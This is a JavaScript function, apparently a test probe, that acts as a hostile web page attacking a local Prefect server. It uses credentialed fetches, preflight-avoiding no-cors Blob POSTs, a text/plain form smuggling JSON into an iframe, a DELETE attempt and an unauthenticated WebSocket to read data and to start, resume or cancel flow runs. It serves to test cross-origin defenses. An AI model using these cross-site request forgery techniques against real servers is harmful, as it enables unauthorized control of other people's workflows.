// What a web page of somebody else tries with a Prefect server on this machine. It knows every address and every ID.
async ({ api, deployment, run, secret }) => {
  const told = {};

  // With what the browser would add for a person who is logged in, and without.
  const read = async (path) => {
    for (const credentials of ["include", "omit"]) {
      try {
        const answer = await fetch(api + path, { credentials });
        return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
      } catch {
        // The browser does not show it.
      }
    }
    return "hidden";
  };
  told.run = await read(`/flow_runs/${run}`);
  told.token = await read("/csrf-token?client=stranger");
  told.settings = await read("/admin/settings");

  // A Blob without a type has no Content-Type, so the browser asks the server nothing before.
  const change = async (path, body) => {
    const sent = new Blob([JSON.stringify(body)]);
    const how = { method: "POST", mode: "no-cors", credentials: "include", body: sent };
    try {
      return (await fetch(api + path, how)).type;
    } catch {
      return "not sent";
    }
  };
  told.started = await change(`/deployments/${deployment}/create_flow_run`, { state: { type: "SCHEDULED" } });
  const form = { key_id: `PK${"A".repeat(24)}`, secret, operator: "stranger", switcher_says_paper: true };
  told.resumed = await change(`/flow_runs/${run}/resume`, { run_input: form });
  told.cancelled = await change(`/flow_runs/${run}/set_state`, { state: { type: "CANCELLED" }, force: true });

  // A form that is sent into a frame, as text that reads as JSON.
  told.posted = await new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "answers";
    document.body.append(frame);
    const sent = document.createElement("form");
    Object.assign(sent, {
      method: "POST", enctype: "text/plain", target: "answers", action: `${api}/deployments/${deployment}/create_flow_run`,
    });
    const field = document.createElement("input");
    Object.assign(field, { name: '{"state": {"type": "SCHEDULED"}, "name": "', value: '"}' });
    sent.append(field);
    document.body.append(sent);
    frame.onload = () => done("answered");
    sent.submit();
  });

  // What needs a question to the server before.
  told.deleted = await fetch(`${api}/flow_runs/${run}`, { method: "DELETE" }).then((one) => one.status, () => "hidden");

  const listened = (protocols) => new Promise((done) => {
    const socket = new WebSocket(`${api.replace("http", "ws")}/events/out`, protocols);
    socket.onopen = () => socket.send(JSON.stringify({ type: "auth", token: null }));
    socket.onmessage = (message) => done(message.data);
    socket.onclose = (end) => done(`closed ${end.code}`);
  });
  told.events = await listened(["prefect"]);
  return told;
}
